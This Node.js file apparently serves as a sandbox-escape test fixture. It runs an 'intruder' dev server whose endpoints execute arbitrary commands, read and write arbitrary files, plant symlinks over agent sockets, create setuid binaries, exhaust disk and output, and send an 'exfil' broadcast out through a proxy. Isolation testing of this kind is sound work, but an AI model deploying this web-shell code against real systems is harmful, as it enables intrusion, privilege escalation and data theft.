// A dev server that attacks what its sandbox can touch, on request, and says what happened.
// GET /whoami                        this preview's project
// GET /plant-socket?target=P         put a symlink to P wherever the agent's socket could be
// GET /write?path=P&data=D           write D into the file P (directories created)
// GET /list?path=P                   the names under directory P, recursively, at most 500
// GET /read?path=P                   the file P's contents (NULs shown as spaces)
// GET /setuid?path=P                 copy node to P and make it setuid and setgid
// GET /broadcast?topic=T            broadcast on T through the Realtime REST API with the anon key
//                                    (through HTTP_PROXY, the only way out)
// GET /fill?path=P&mb=N              write N MiB into the file P, a MiB at a time, until an error
// GET /shout?mb=N                    print N MiB to stdout, in lines of 1,000 characters
// GET /exec?cmd=C&arg=A&arg=B        run C with the arguments A, B...: its status and output
// GET /headers                       the request's headers, as the app sees them
// GET /seen                          every request and websocket upgrade the app has received
const http = require('http')
const fs = require('fs')
const path = require('path')
const { spawnSync } = require('child_process')

const port = Number(process.env.PORT)
// Where an agent's socket has lived, or could: the sandbox's /run and anything named like it.
const SOCKET_PLACES = ['/run/velocity/agent.sock', '/run/agent.sock', '/workspace/agent.sock']

function attempt(action) {
  try {
    action()
    return { ok: true }
  } catch (e) {
    return { ok: false, error: e.code || String(e) }
  }
}

function plantSocket(target) {
  const found = []
  for (const dir of ['/run', '/tmp', '/workspace']) {
    for (const name of list(dir, 3)) if (name.endsWith('.sock')) found.push(path.join(dir, name))
  }
  const places = [...new Set([...SOCKET_PLACES, ...found])]
  const planted = {}
  for (const place of places) {
    planted[place] = attempt(() => {
      fs.mkdirSync(path.dirname(place), { recursive: true })
      fs.rmSync(place, { force: true })
      fs.symlinkSync(target, place)
    })
  }
  return { found, planted }
}

function list(dir, depth = 6) {
  const names = []
  const walk = (at, rel, level) => {
    if (names.length >= 500 || level > depth) return
    let entries = []
    try { entries = fs.readdirSync(at, { withFileTypes: true }) } catch (e) { return }
    for (const entry of entries) {
      const name = path.join(rel, entry.name)
      names.push(name)
      if (entry.isDirectory()) walk(path.join(at, entry.name), name, level + 1)
    }
  }
  walk(dir, '', 0)
  return names
}

const seen = []

function broadcast(topic) {
  return new Promise((resolve) => {
    const proxy = new URL(process.env.HTTP_PROXY)
    const target = `${process.env.SUPABASE_URL.replace(/\/$/, '')}/realtime/v1/api/broadcast`
    const body = JSON.stringify({ messages: [{ topic, event: 'exfil', payload: { secret: 'from the sandbox' } }] })
    const request = http.request({
      host: proxy.hostname, port: proxy.port, method: 'POST', path: target,
      headers: { host: new URL(target).host, apikey: process.env.SUPABASE_ANON_KEY,
                 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) },
    }, (res) => {
      let text = ''
      res.on('data', (c) => (text += c))
      res.on('end', () => resolve({ status: res.statusCode, body: text }))
    })
    request.on('error', (e) => resolve({ status: 0, error: e.code }))
    request.end(body)
  })
}

function fill(file, mb) {
  const chunk = Buffer.alloc(1 << 20, 120)
  let written = 0
  try {
    const fd = fs.openSync(file, 'w')
    try {
      for (; written < mb; written++) fs.writeSync(fd, chunk)
    } finally {
      fs.closeSync(fd)
    }
    return { written, error: null }
  } catch (e) {
    return { written, error: e.code }
  }
}

function shout(mb) {
  const line = Buffer.from('x'.repeat(999) + '\n')
  for (let i = 0; i < mb * 1050; i++) {
    for (let done = 0; done < line.length;) {
      try { done += fs.writeSync(1, line, done) } catch (e) { if (e.code !== 'EAGAIN') throw e }
    }
  }
  return { printed: mb }
}

function answer(url, req) {
  const q = url.searchParams
  switch (url.pathname) {
    case '/headers': return req.headers
    case '/fill': return fill(q.get('path'), Number(q.get('mb')))
    case '/shout': return shout(Number(q.get('mb')))
    case '/exec': {
      const run = spawnSync(q.get('cmd'), q.getAll('arg'), { encoding: 'utf8', timeout: 20000 })
      return { status: run.status, stdout: run.stdout, stderr: run.stderr, error: run.error && run.error.code }
    }
    case '/broadcast': return broadcast(q.get('topic'))
    case '/seen': return { seen }
    case '/whoami': return { project: process.env.PROJECT_ID }
    case '/plant-socket': return plantSocket(q.get('target'))
    case '/write': return attempt(() => {
      fs.mkdirSync(path.dirname(q.get('path')), { recursive: true })
      fs.writeFileSync(q.get('path'), q.get('data') || '')
    })
    case '/list': return { names: list(q.get('path')) }
    case '/setuid': return attempt(() => {
      fs.mkdirSync(path.dirname(q.get('path')), { recursive: true })
      fs.copyFileSync(process.execPath, q.get('path'))
      fs.chmodSync(q.get('path'), 0o6755)
    })
    case '/read': try {
      return { ok: true, text: fs.readFileSync(q.get('path'), 'latin1').replace(/\0/g, ' ') }
    } catch (e) { return { ok: false, error: e.code } }
    default: return { hello: 'intruder' }
  }
}

const server = http.createServer((req, res) => {
  seen.push(`${req.method} ${req.url}`)
  const url = new URL(req.url, 'http://intruder')
  if (url.pathname.endsWith('.html')) {
    res.setHeader('content-type', 'text/html')
    res.end('<!doctype html><title>intruder</title><p>intruder</p>')
    return
  }
  Promise.resolve(answer(url, req)).then((result) => {
    res.setHeader('content-type', 'application/json')
    res.end(JSON.stringify(result))
  })
})
server.on('upgrade', (req, socket) => {
  seen.push(`UPGRADE ${req.url}`)
  socket.end('HTTP/1.1 400 Bad Request\r\nConnection: close\r\n\r\n')
})
server.listen(port, '127.0.0.1')
